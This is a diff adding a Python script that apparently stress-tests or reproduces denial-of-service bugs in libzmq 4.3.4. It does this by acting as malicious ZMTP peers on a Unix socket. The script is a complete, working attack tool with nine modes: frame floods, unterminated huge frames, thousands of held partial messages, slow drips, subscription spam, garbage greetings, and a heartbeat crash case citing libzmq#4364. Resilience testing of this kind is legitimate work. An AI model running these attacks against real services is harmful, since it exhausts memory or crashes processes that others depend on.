@@ -1,0 +1,139 @@
+"""Peers that mean ill, byte by byte: python3 attack.py KIND ENDPOINT SECONDS, for a socket in the file system.
+
+Each kind is one way in which libzmq 4.3.4 by itself takes memory without a bound, or ends its process. The last line that is printed
+says how often a connection was made anew, and how much was sent.
+"""
+import os
+import socket
+import struct
+import sys
+import threading
+import time
+
+KIND, PATH, SECONDS = sys.argv[1], sys.argv[2].removeprefix("ipc://"), float(sys.argv[3])
+END = time.monotonic() + SECONDS
+count = {"connections": 0, "bytes": 0}
+
+
+def command(name, body):
+    body = bytes([len(name)]) + name + body
+    return bytes([4, len(body)]) + body
+
+
+def frame(body, more=True):
+    flags = 1 if more else 0
+    if len(body) < 256:
+        return bytes([flags, len(body)]) + body
+    return bytes([flags | 2]) + struct.pack(">Q", len(body)) + body
+
+
+def connect(kind=b"DEALER"):
+    """A connection on which the handshake is done: the greeting, and READY (ZMTP 3.1 without security)."""
+    peer = socket.socket(socket.AF_UNIX)
+    peer.settimeout(2)
+    try:
+        peer.connect(PATH)
+        peer.sendall(b"\xff" + bytes(8) + b"\x7f\x03\x01" + b"NULL".ljust(20, b"\0") + bytes(32))
+        peer.sendall(command(b"READY", b"\x0bSocket-Type" + struct.pack(">I", len(kind)) + kind))
+    except OSError:
+        peer.close()
+        raise
+    count["connections"] += 1
+    return peer
+
+
+def flood(parts, kind=b"DEALER"):
+    """Sends the first part and then the others for ever, on one connection after the other."""
+    first, rest = parts
+    while time.monotonic() < END:
+        try:
+            peer = connect(kind)
+        except OSError:
+            time.sleep(0.005)
+            continue
+        try:
+            peer.sendall(first)
+            while time.monotonic() < END:
+                count["bytes"] += peer.send(rest() if callable(rest) else rest)
+        except OSError:
+            time.sleep(0.005)
+        finally:
+            peer.close()
+
+
+def hold():
+    """Thousands of connections, each with the beginning of a message."""
+    peers = []
+    while time.monotonic() < END:
+        try:
+            peer = connect()
+            peer.sendall(frame(b"h" * 32) + b"\x02" + struct.pack(">Q", 60_000) + b"z" * 50_000)
+            count["bytes"] += 50_000
+            peers.append(peer)
+        except OSError:
+            time.sleep(0.005)
+        if len(peers) > 2000:
+            for peer in peers[:1000]:
+                peer.close()
+            del peers[:1000]
+
+
+def endless():
+    """A message of three large frames, of which the last does not end; then nothing, while the connection lasts."""
+    while time.monotonic() < END:
+        try:
+            peer = connect()
+            for size in (32, 15 << 20, 15 << 20):
+                peer.sendall(b"\x03" + struct.pack(">Q", size))
+                for _ in range(0, size, 1 << 16):
+                    part = bytes(min(size, 1 << 16))
+                    peer.sendall(part)
+                    count["bytes"] += len(part)
+        except OSError:
+            peer.close()
+
+
+def rubbish():
+    """Bytes that are not even a greeting."""
+    while time.monotonic() < END:
+        peer = socket.socket(socket.AF_UNIX)
+        try:
+            peer.connect(PATH)
+            count["connections"] += 1
+            peer.sendall(b"G" + os.urandom(10_000))
+        except OSError:
+            time.sleep(0.001)
+        peer.close()
+
+
+def heartbeats():
+    """A heartbeat behind more messages than a queue takes, and then the end: libzmq#4364."""
+    while time.monotonic() < END:
+        try:
+            peer = connect()
+            ping = command(b"PING", struct.pack(">H", 10) + b"x")
+            peer.sendall(frame(b"abc", False) * 3000 + ping + frame(b"abc", False) * 3)
+            count["bytes"] += 15_000
+            peer.close()
+        except OSError:
+            time.sleep(0.005)
+
+
+kinds = {
+    "frames": lambda: flood((b"", frame(b"x" * 60_000) * 4)),
+    "empty-frames": lambda: flood((b"", frame(b"") * 20_000)),
+    "small-frames": lambda: flood((b"", frame(b"y" * 34) * 2000)),
+    # Within the limits of a frame, and of their number.
+    "endless": endless,
+    "slow": lambda: flood((frame(b"h" * 32) + b"\x02" + struct.pack(">Q", 60_000), lambda: b"z")),
+    "hold": hold,
+    "subscriptions": lambda: flood((b"", lambda: frame(b"\x01" + os.urandom(2000), False)), b"SUB"),
+    "heartbeats": heartbeats,
+    "rubbish": rubbish,
+}
+threads = [threading.Thread(target=kinds[KIND]) for _ in range(4 if KIND in ("frames", "slow") else 1)]
+for thread in threads:
+    thread.start()
+for thread in threads:
+    thread.join()
+print(f"{KIND}: {count['connections']} connections, {count['bytes']} bytes")
